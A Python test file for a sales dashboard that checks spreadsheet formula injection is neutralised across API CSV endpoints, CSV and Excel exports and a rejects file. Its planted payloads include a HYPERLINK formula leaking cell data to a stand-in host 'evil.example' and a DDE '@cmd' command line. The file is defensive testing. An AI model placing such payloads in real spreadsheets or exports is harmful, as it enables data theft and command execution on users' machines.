"""Formula cells from the hostile corpus (formula_names.csv: =HYPERLINK(...), +SUM, -2+3, @cmd) are stored as
written and neutralised in EVERY spreadsheet-bound output: each `?format=csv` endpoint of the API, each export
view as CSV and Excel, and the rejects file of `--on-error skip`. All of them go through one helper,
salesdash.export_safety (checked statically)."""

from __future__ import annotations

import ast
import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import Engine

from salesdash.api import create_app
from salesdash.config import Settings
from salesdash.export import VIEWS, ExportContext, export
from salesdash.export_safety import FORMULA_PREFIXES, neutralise
from salesdash.ingest import ingest_file, prepare
from salesdash.metrics import Filters
from salesdash.store import current_version, make_engine, snapshot
from tests.conftest import ROOT
from tests.reliability.support import ALL_STATUSES, BAD

SRC = ROOT / "src" / "salesdash"
HOSTILE = BAD / "formula_names.csv"
PLANTED = (
    '=HYPERLINK("http://evil.example/x?leak="&A1,"Alpha Co")',
    "+SUM(1+1)",
    "-2+3",
    "@cmd|' /C calc'!A0",
)


def dangerous(cell: Any) -> bool:
    """A text cell a spreadsheet would run as a formula (numbers, negative ones included, are fine)."""
    if not isinstance(cell, str) or not cell.startswith(FORMULA_PREFIXES):
        return False
    try:
        float(cell)
    except ValueError:
        return True
    return False


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@pytest.fixture(scope="module")
def hostile_engine(tmp_path_factory: pytest.TempPathFactory) -> Engine:
    engine = make_engine(f"sqlite:///{tmp_path_factory.mktemp('formulas') / 'f.db'}")
    ingest_file(engine, HOSTILE)
    return engine


def test_formulas_are_stored_as_written(hostile_engine: Engine):
    from salesdash.metrics import order_line_page

    with snapshot(hostile_engine) as conn:
        frame, total = order_line_page(conn, Filters(statuses=ALL_STATUSES), limit=100)
    assert total == 8
    stored = set(frame["customer_name"]) | set(frame["contact_first_name"]) | set(frame["contact_last_name"])
    stored |= set(frame["city"])
    assert set(PLANTED) <= stored


def test_every_api_csv_output_is_neutralised(hostile_engine: Engine):
    settings = Settings(
        database_url=hostile_engine.url.render_as_string(hide_password=False),
        cors_origins=["http://127.0.0.1:8501"],
    )
    client = create_app(settings, engine=hostile_engine).test_client()
    spec = client.get("/api/openapi.json").get_json()
    csv_paths = [
        path
        for path, item in spec["paths"].items()
        if "text/csv" in item.get("get", {}).get("responses", {}).get("200", {}).get("content", {})
    ]
    assert len(csv_paths) >= 10
    status = (
        "Shipped,Cancelled,On Hold,Resolved"  # every status in the file (others are 400: not in the data)
    )
    seen_planted = set()
    requests = [(path, {}) for path in csv_paths if path != "/api/export"]
    if "/api/export" in csv_paths:  # the export endpoint: every view as CSV
        requests += [("/api/export", {"view": view}) for view in sorted(VIEWS)]
    for path, extra in requests:
        response = client.get(path, query_string={"format": "csv", "status": status} | extra)
        assert response.status_code == 200, (path, extra, response.get_data(as_text=True)[:300])
        cells = csv_cells(response.get_data(as_text=True))
        assert [c for c in cells if dangerous(c)] == [], (path, extra)
        seen_planted |= {p for p in PLANTED if neutralise(p) in cells}
    # the planted cells really went through the CSV outputs (orders shows every column)
    assert seen_planted == set(PLANTED)


@pytest.mark.parametrize("view", sorted(VIEWS))
def test_every_export_view_is_neutralised_in_csv_and_excel(view: str, hostile_engine: Engine):
    version = current_version(hostile_engine)
    assert version is not None
    filters = Filters(statuses=ALL_STATUSES)
    ctx = ExportContext(version.version, datetime(2026, 1, 1).isoformat(), filters)
    with snapshot(hostile_engine) as conn:
        as_csv = export(conn, filters, view, "csv", ctx)
        as_xlsx = export(conn, filters, view, "xlsx", ctx)
    cells = csv_cells(as_csv.content.decode("utf-8"))
    assert [c for c in cells if dangerous(c)] == []
    book = load_workbook(io.BytesIO(as_xlsx.content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{view}: a formula cell in {sheet.title}!{cell.coordinate}"
                assert not dangerous(cell.value), f"{view}: {sheet.title}!{cell.coordinate} = {cell.value!r}"


def test_rejects_file_is_neutralised(tmp_path: Path):
    source = tmp_path / "formulas_with_a_bad_row.csv"
    lines = HOSTILE.read_text(encoding="utf-8").splitlines()
    lines[1] = lines[1].replace(",Shipped,", ",Lost,", 1)  # make a formula row fail validation
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")
    rejects = tmp_path / "rejects.csv"
    prepare(source, on_error="skip", rejects_path=rejects)
    cells = csv_cells(rejects.read_text(encoding="utf-8"))
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert [c for c in cells if dangerous(c)] == []


def test_every_csv_or_excel_writer_uses_the_shared_helper():
    """Any module that writes CSV or Excel imports salesdash.export_safety (one neutralising helper)."""
    writers = {"writer", "DictWriter", "to_csv", "Workbook", "to_excel", "write_string", "write"}
    offenders = []
    for path in sorted(SRC.rglob("*.py")):
        if path.name == "export_safety.py":
            continue
        tree = ast.parse(path.read_text(encoding="utf-8"))
        imports = {
            alias.name if isinstance(node, ast.Import) else f"{node.module}"
            for node in ast.walk(tree)
            if isinstance(node, ast.Import | ast.ImportFrom)
            for alias in node.names
        }
        uses_csv_or_xlsx = bool(imports & {"csv", "xlsxwriter", "openpyxl"})
        calls = {
            n.func.attr
            for n in ast.walk(tree)
            if isinstance(n, ast.Call) and isinstance(n.func, ast.Attribute)
        }
        writes = (uses_csv_or_xlsx and bool(calls & writers)) or "to_csv" in calls or "to_excel" in calls
        if writes and "salesdash.export_safety" not in imports:
            offenders.append(path.relative_to(SRC).as_posix())
    assert offenders == [], f"write CSV/Excel without salesdash.export_safety: {offenders}"
